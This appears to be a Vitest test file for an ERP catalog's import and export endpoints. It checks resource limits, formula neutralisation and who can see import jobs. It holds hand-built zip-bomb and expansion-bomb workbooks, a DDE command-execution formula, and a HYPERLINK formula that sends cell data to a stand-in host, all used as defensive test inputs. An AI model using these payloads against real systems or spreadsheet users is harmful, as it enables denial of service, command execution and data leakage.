/**
 * Files and requests made to hurt: zip bombs, endless rows, formulas in cells, someone else's
 * import job. Each is answered with a clear 4xx (or written harmlessly), never a 500 or a crash.
 */
import { constants, deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreFormula, safeCells } from '@erp/service-kit';
import { grantAccess } from '@erp/service-kit/testing';
import { DEFAULT_IMPORT_LIMITS } from '../src/config.js';
import { readCsv, readXlsx } from '../src/plugins/import.js';
import { multipart, startCatalog, waitForJob, type CatalogHarness } from './helpers.js';

const MB = 1024 * 1024;
const HEADER = 'Item Name,Unit,Vendor,Price,GST,MOQ,Status,Notes';
const NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

let h: CatalogHarness | undefined;
afterEach(async () => {
  await h?.close();
  h = undefined;
});

interface Part {
  name: string;
  /** Raw deflate data, when not the text deflated. */
  deflated?: Buffer;
  text?: string;
  /** What the central directory says the part unpacks to (defaults to the truth). */
  declaredSize?: number;
  size?: number;
}

/** A zip archive written by hand, so that its directory can say what a test wants it to say. */
function zip(parts: Part[]): Buffer {
  const chunks: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const p of parts) {
    const data = p.deflated ?? deflateRawSync(Buffer.from(p.text ?? ''));
    const size = p.declaredSize ?? p.size ?? Buffer.byteLength(p.text ?? '');
    const name = Buffer.from(p.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(8, 10);
    dir.writeUInt32LE(data.length, 20);
    dir.writeUInt32LE(size, 24);
    dir.writeUInt16LE(name.length, 28);
    dir.writeUInt32LE(offset, 42);
    chunks.push(local, name, data);
    central.push(dir, name);
    offset += 30 + name.length + data.length;
  }
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...chunks, cd, end]);
}

const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;
const headerRow = `<row r="1">${HEADER.split(',')
  .map((c, i) => inline(`${String.fromCharCode(65 + i)}1`, c))
  .join('')}</row>`;

/** A minimal workbook around one sheet's XML (deflated as given, or from text). */
function workbook(sheet: Omit<Part, 'name'>, extra: Part[] = []): Buffer {
  return zip([
    {
      name: '[Content_Types].xml',
      text: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    },
    {
      name: 'xl/workbook.xml',
      text: `<workbook xmlns="${NS}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Items" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      text: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    },
    { name: 'xl/worksheets/sheet1.xml', ...sheet },
    ...extra,
  ]);
}

/**
 * A zip bomb's sheet: the header row, then one cell whose text is `mb` megabytes of "a", as raw
 * deflate made of one compressed megabyte repeated (a full flush makes each copy stand alone), so
 * gigabytes take a few KB per 1,000 MB to build and send.
 */
function bombSheet(mb: number): { deflated: Buffer; size: number } {
  const head = `<worksheet xmlns="${NS}"><sheetData>${headerRow}<row r="2"><c r="A2" t="inlineStr"><is><t>`;
  const tail = '</t></is></c></row></sheetData></worksheet>';
  const flush = { finishFlush: constants.Z_FULL_FLUSH };
  const oneMb = deflateRawSync(Buffer.alloc(MB, 'a'), flush);
  const deflated = Buffer.concat([
    deflateRawSync(Buffer.from(head), flush),
    ...Array<Buffer>(mb).fill(oneMb),
    deflateRawSync(Buffer.from(tail)),
  ]);
  return { deflated, size: head.length + mb * MB + tail.length };
}

async function exceljsWorkbook(rows: (string | number)[][]): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Items');
  for (const r of rows) ws.addRow(r);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

const dataRows = (n: number) =>
  Array.from({ length: n }, (_, i) => [`Material ${i}`, 'kg', '', '', '', '', '', '']);

function upload(
  harness: CatalogHarness,
  name: string,
  content: Buffer | string,
  headers = harness.purchaser.headers,
) {
  const m = multipart(name, content);
  return harness.app.inject({
    method: 'POST',
    url: '/items/import',
    headers: { ...m.headers, ...headers },
    payload: m.payload,
  });
}

describe('import limits', () => {
  it('a zip bomb workbook (3 MB unpacking to 3 GB) is refused with 413 on its declared size, without unpacking it', async () => {
    h = await startCatalog();
    const bomb = workbook(bombSheet(3000));
    expect(bomb.length).toBeLessThan(4 * MB);
    const res = await upload(h, 'items.xlsx', bomb);
    expect(res.statusCode).toBe(413);
    expect(res.json()).toEqual({
      message:
        'The workbook unpacks to more than 50 MB of data; remove other sheets or split it into smaller files',
    });
    expect(
      (await h.app.inject({ method: 'GET', url: '/items/all', headers: h.purchaser.headers })).json()
        .totalItems,
    ).toBe(0);
  });

  it('a zip bomb whose directory lies about its size is stopped at 50 MB unpacked, as a stream', async () => {
    const { deflated } = bombSheet(3000);
    const lying = workbook({ deflated, declaredSize: 1000 });
    const before = process.memoryUsage();
    const err = await readXlsx(lying, DEFAULT_IMPORT_LIMITS).catch((e: unknown) => e);
    expect(err).toMatchObject({
      statusCode: 413,
      message:
        'The workbook unpacks to more than 50 MB of data; remove other sheets or split it into smaller files',
    });
    // Unpacked whole, the text alone would be 3 GB (more than a string can hold).
    const after = process.memoryUsage();
    expect(after.arrayBuffers - before.arrayBuffers).toBeLessThan(200 * MB);
  });

  it('a long shared string repeated in many cells (small in the file, huge once read) is refused with 413', async () => {
    const half = 'a'.repeat(MB / 2);
    const strings = {
      name: 'xl/sharedStrings.xml',
      text: `<sst xmlns="${NS}"><si><r><t>${half}</t></r><r><t>${half}</t></r></si></sst>`,
    };
    const file = (n: number) => {
      const rows = Array.from(
        { length: n },
        (_, i) =>
          `<row r="${i + 2}">${HEADER.split(',')
            .map((_c, k) => `<c r="${String.fromCharCode(65 + k)}${i + 2}" t="s"><v>0</v></c>`)
            .join('')}</row>`,
      );
      return workbook(
        { text: `<worksheet xmlns="${NS}"><sheetData>${headerRow}${rows.join('')}</sheetData></worksheet>` },
        [strings],
      );
    };
    // 800 cells of 1 MB each: 800 MB of text from a file of a few KB.
    expect(file(100).length).toBeLessThan(100 * 1024);
    const err = await readXlsx(file(100), DEFAULT_IMPORT_LIMITS).catch((e: unknown) => e);
    expect(err).toMatchObject({
      statusCode: 413,
      message:
        'The workbook unpacks to more than 50 MB of data; remove other sheets or split it into smaller files',
    });
    // Under the limit (one row, 8 MB), the string is read.
    expect((await readXlsx(file(1), DEFAULT_IMPORT_LIMITS))[1]![0]).toHaveLength(MB);
  });

  it('a workbook under the limits is read, hand-made or written by Excel’s library, up to 20,000 rows', async () => {
    const small = workbook({
      text: `<worksheet xmlns="${NS}"><sheetData>${headerRow}<row r="2">${inline('A2', 'Binding wire')}${inline('B2', 'kg')}<c r="D2"><v>80.5</v></c></row></sheetData></worksheet>`,
    });
    expect(await readXlsx(small, DEFAULT_IMPORT_LIMITS)).toEqual([
      HEADER.split(','),
      ['Binding wire', 'kg', '', '80.5', '', '', '', ''],
    ]);
    const full = await exceljsWorkbook([HEADER.split(','), ...dataRows(20_000)]);
    const table = await readXlsx(full, DEFAULT_IMPORT_LIMITS);
    expect(table).toHaveLength(20_001);
    expect(table[20_000]![0]).toBe('Material 19999');
  });

  it('more rows than the limit are refused with 413, in CSV and XLSX, blank rows and far-away rows included', async () => {
    h = await startCatalog({}, { importLimits: { maxRows: 100 } });
    const message = { message: 'The file has more than 100 rows; split it into smaller files' };
    const csv = await upload(h, 'items.csv', [HEADER, ...dataRows(101).map((r) => r.join(','))].join('\n'));
    expect(csv.statusCode).toBe(413);
    expect(csv.json()).toEqual(message);
    const blank = await upload(h, 'items.csv', `${HEADER}\n${'\n'.repeat(5 * MB)}`);
    expect(blank.statusCode).toBe(413);
    expect(blank.json()).toEqual(message);
    const xlsx = await upload(h, 'items.xlsx', await exceljsWorkbook([HEADER.split(','), ...dataRows(101)]));
    expect(xlsx.statusCode).toBe(413);
    expect(xlsx.json()).toEqual(message);
    const far = workbook({
      text: `<worksheet xmlns="${NS}"><sheetData>${headerRow}<row r="1048576">${inline('A1048576', 'Far away')}</row></sheetData></worksheet>`,
    });
    expect((await upload(h, 'items.xlsx', far)).json()).toEqual(message);
    // At the limit: accepted.
    const ok = await upload(h, 'items.csv', [HEADER, ...dataRows(100).map((r) => r.join(','))].join('\n'));
    expect(ok.statusCode).toBe(202);
    expect((await waitForJob(h, ok.json()._id)).created).toBe(100);
  });

  it('the CSV reader stops at the row limit and keeps at most 64 cells a row', () => {
    expect(
      readCsv(Buffer.from([HEADER, ...dataRows(20_000).map((r) => r.join(','))].join('\n'))),
    ).toHaveLength(20_001);
    expect(() => readCsv(Buffer.from('\n'.repeat(10 * MB)))).toThrow(
      'The file has more than 20,000 rows; split it into smaller files',
    );
    expect(readCsv(Buffer.from(`${HEADER}${','.repeat(100_000)}`))[0]).toHaveLength(64);
  });

  it('the file size limit comes from the configuration and is answered 413 with a message', async () => {
    h = await startCatalog({}, { env: { IMPORT_MAX_FILE_MB: '1' } });
    const res = await upload(h, 'items.csv', `${HEADER}\n${'x'.repeat(MB + 10)}`);
    expect(res.statusCode).toBe(413);
    expect(res.json()).toEqual({ message: 'The file is larger than 1 MB' });
  });
});

describe('formulas in exports', () => {
  it('text that would run as a formula gets an apostrophe; numbers and plain text stay as they are', () => {
    expect(
      ['=1+1', '+91 98', '-Special', '@SUM(A1)', '\tx', '\rx', "'=A1", 'Cement', '', 'a=b'].map(
        neutraliseFormula,
      ),
    ).toEqual(["'=1+1", "'+91 98", "'-Special", "'@SUM(A1)", "'\tx", "'\rx", "''=A1", 'Cement', '', 'a=b']);
    expect(safeCells(['-Special', -5, 12.5, ''] as const)).toEqual(["'-Special", -5, 12.5, '']);
    for (const t of ['=A1', '-Special', "'=A1", "''-x", "'plain", 'plain', '@', "'"])
      expect(restoreFormula(neutraliseFormula(t))).toBe(t);
    expect(restoreFormula("'=A1")).toBe('=A1');
    expect(restoreFormula("'plain")).toBe("'plain");
  });

  it('CSV and XLSX exports neutralise formula text, keep numbers as numbers, and import back unchanged', async () => {
    h = await startCatalog();
    const harness = h;
    const evil = await harness.vendor("=cmd|' /C calc'!A0", 'active', 'VEN-0201');
    const names = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '-Special',
      '+91 Cement',
      '@SUM(A1)',
      'Plain sand',
    ];
    for (const name of names) {
      const res = await harness.app.inject({
        method: 'POST',
        url: '/items',
        headers: harness.purchaser.headers,
        payload: {
          name,
          unit: 'kg',
          vendors:
            name === 'Plain sand' ? [] : [{ vendor: evil.vendorId, price: 10.5, gst: 0, notes: '=1+2' }],
        },
      });
      expect(res.statusCode, res.body).toBe(201);
    }
    const csv = await harness.app.inject({
      method: 'GET',
      url: '/items/export?format=csv',
      headers: harness.reader.headers,
    });
    const lines = csv.body.split('\n').filter(Boolean);
    expect(lines).toContain(`'-Special,kg,'=cmd|' /C calc'!A0,10.5,0,0,active,'=1+2`);
    expect(lines).toContain(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",kg,'=cmd|' /C calc'!A0,10.5,0,0,active,'=1+2`,
    );
    expect(lines).toContain('Plain sand,kg,,,,,,');
    for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|,)"?[=+\-@]/);

    const xlsx = await harness.app.inject({
      method: 'GET',
      url: '/items/export?format=xlsx',
      headers: harness.reader.headers,
    });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const rows = wb.worksheets[0]!.getSheetValues().filter(Boolean) as unknown[][];
    const special = rows.find((r) => r[1] === "'-Special")!;
    expect(special.slice(1)).toEqual([
      "'-Special",
      'kg',
      "'=cmd|' /C calc'!A0",
      10.5,
      0,
      0,
      'active',
      "'=1+2",
    ]);
    for (const r of rows.slice(1))
      for (const cell of r) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    for (const [file, body] of [
      ['export.csv', csv.body],
      ['export.xlsx', xlsx.rawPayload],
    ] as const) {
      const job = await waitForJob(harness, (await upload(harness, file, body)).json()._id);
      expect(job, file).toMatchObject({ status: 'done', unchanged: 5, created: 0, updated: 0, refused: 0 });
    }
    const all = (
      await harness.app.inject({
        method: 'GET',
        url: '/items/all?limit=100',
        headers: harness.purchaser.headers,
      })
    ).json();
    expect(all.result.map((i: { name: string }) => i.name).sort()).toEqual([...names].sort());
  });

  it("an imported cell written as text with an apostrophe ('=A1) is stored without it", async () => {
    h = await startCatalog();
    const job = await waitForJob(
      h,
      (await upload(h, 'items.csv', `${HEADER}\n'=A1,kg,,,,,,\n"'-Special",kg,,,,,,\n`)).json()._id,
    );
    expect(job).toMatchObject({ status: 'done', created: 2 });
    const all = (
      await h.app.inject({ method: 'GET', url: '/items/all?limit=100', headers: h.purchaser.headers })
    ).json();
    expect(all.result.map((i: { name: string }) => i.name).sort()).toEqual(['-Special', '=A1']);
  });
});

describe('import jobs', () => {
  it('a job is seen only by the member who started it and by Admins; another member with items write gets 404', async () => {
    h = await startCatalog();
    const started = await upload(h, 'items.csv', `${HEADER}\nRiver sand,CBM,,,,,,\n`);
    const jobId = started.json()._id as string;
    await waitForJob(h, jobId);
    const colleague = await grantAccess(h, { name: 'Other Purchaser', role: 'Purchaser' });
    const admin = await grantAccess(h, { name: 'Demo Admin', role: 'Admin' });
    const other = await h.app.inject({
      method: 'GET',
      url: `/items/import/${jobId}`,
      headers: colleague.headers,
    });
    expect(other.statusCode).toBe(404);
    expect(other.json()).toEqual({ message: 'Import not found' });
    const own = await h.app.inject({
      method: 'GET',
      url: `/items/import/${jobId}`,
      headers: h.purchaser.headers,
    });
    expect(own.statusCode).toBe(200);
    const byAdmin = await h.app.inject({
      method: 'GET',
      url: `/items/import/${jobId}`,
      headers: admin.headers,
    });
    expect(byAdmin.statusCode).toBe(200);
    expect(byAdmin.json()).toMatchObject({ _id: jobId, fileName: 'items.csv', created: 1 });
  });
});

describe('caching', () => {
  it('signed-in answers of the catalog, downloads and refusals say Cache-Control: no-store', async () => {
    h = await startCatalog();
    const answers = [
      await h.app.inject({ method: 'GET', url: '/items/all', headers: h.reader.headers }),
      await h.app.inject({ method: 'GET', url: '/items/export?format=csv', headers: h.reader.headers }),
      await h.app.inject({ method: 'GET', url: '/items/all' }),
      await h.app.inject({ method: 'GET', url: '/items/all', headers: h.outsider.headers }),
    ];
    expect(answers.map((a) => a.statusCode)).toEqual([200, 200, 401, 403]);
    for (const a of answers) expect(a.headers['cache-control']).toBe('no-store');
  });
});
